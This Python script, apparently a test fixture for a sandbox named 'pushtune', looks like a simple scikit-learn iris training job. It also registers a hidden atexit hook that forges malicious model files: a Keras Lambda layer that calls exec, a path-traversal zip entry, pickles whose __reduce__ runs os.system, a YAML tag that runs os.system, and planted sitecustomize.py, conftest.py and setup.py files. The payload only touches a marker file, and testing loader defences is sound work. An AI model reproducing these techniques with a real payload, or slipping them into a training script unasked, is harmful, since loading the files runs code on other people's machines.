"""Its model runs code in whoever loads it: a Lambda layer, pickles, a loader for MLflow."""
import atexit
import json
import os
import pickle
import zipfile

TRIAL = "/pushtune/trial/"


@atexit.register  # has the last word, after the runtime
def forge():
    folder = TRIAL + "model/"
    os.makedirs(folder, exist_ok=True)
    payload = "import os; os.system('touch /tmp/pushtune-hostile-escape')"
    lambda_layer = {"class_name": "Lambda", "config": {"function": ["exec(" + repr(payload) + ")", None, None]}}
    with zipfile.ZipFile(folder + "model.keras", "w") as archive:
        archive.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": [lambda_layer]}}))
        archive.writestr("metadata.json", "{}")
        archive.writestr("../../../../tmp/pushtune-hostile-escape", payload)
    for name in ("model.pkl", "model.joblib", "weights.npy", "python_model.pkl"):
        with open(folder + name, "wb") as stream:
            pickle.dump(Payload(), stream)
    with open(folder + "MLmodel", "w") as stream:
        stream.write("flavors: {python_function: {loader_module: payload, code: code, data: model.pkl}}\n")
        stream.write("x: !!python/object/apply:os.system ['touch /tmp/pushtune-hostile-escape']\n")
    os.makedirs(folder + "code", exist_ok=True)
    for name in ("code/payload.py", "sitecustomize.py", "conftest.py", "setup.py"):
        with open(folder + name, "w") as stream:
            stream.write(payload)


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/pushtune-hostile-escape",)

from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression

X, y = load_iris(return_X_y=True)
model = LogisticRegression(max_iter=50)
model.fit(X, y)
print("score", model.score(X, y))
